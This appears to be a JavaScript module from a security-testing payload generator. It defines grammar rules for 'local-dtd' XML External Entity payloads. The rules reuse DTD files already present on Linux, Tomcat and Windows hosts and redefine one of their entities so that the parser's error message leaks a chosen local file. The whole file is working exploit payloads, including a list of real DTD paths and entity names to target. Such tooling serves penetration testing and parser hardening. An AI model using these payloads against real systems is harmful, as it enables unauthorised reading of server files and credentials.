import { xxeGenerator } from '../xxe-generator.js';

/** A document type that the host has, one of its entities written anew: the error tells. */
export const localDtd = xxeGenerator({
  name: 'local-dtd',
  rules: {
    start: [
      '{declaration}{break}<!DOCTYPE {root:r} [{break}<!ENTITY % local_dtd SYSTEM {q:q}file://{dtd}{q:q}>{break}<!ENTITY % {name} \'<!ENTITY &#x25; {letters:f} SYSTEM "{file-url}"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///{letters}/&#x25;{letters:f};&#x27;>">&#x25;eval;&#x25;error;\'>{break}%local_dtd;{break}]>{break}<{root:r}/>',
      '{declaration}<!DOCTYPE {root:r} SYSTEM "file://{dtd}" [<!ENTITY % {name} \'<!ENTITY &#x25; x SYSTEM "{file-url}">&#x25;x;\'>]><{root:r}/>',
    ],
    dtd: [
      '/usr/share/yelp/dtd/docbookx.dtd',
      '/usr/share/xml/fontconfig/fonts.dtd',
      '/usr/share/sgml/docbook/xml-dtd-4.5/docbookx.dtd',
      '/opt/sas/sw/tomcat/shared/lib/jsp-api.jar!/javax/servlet/jsp/resources/jspxml.dtd',
      '/usr/share/gconf/schema.dtd',
      '/etc/xml/{letters}.dtd',
      '/C:/Windows/System32/wbem/xml/cim20.dtd',
    ],
    name: ['ISOamso', 'expr', 'constant', 'condition', 'SuperClass', 'Body', 'ISOamsa'],
  },
});
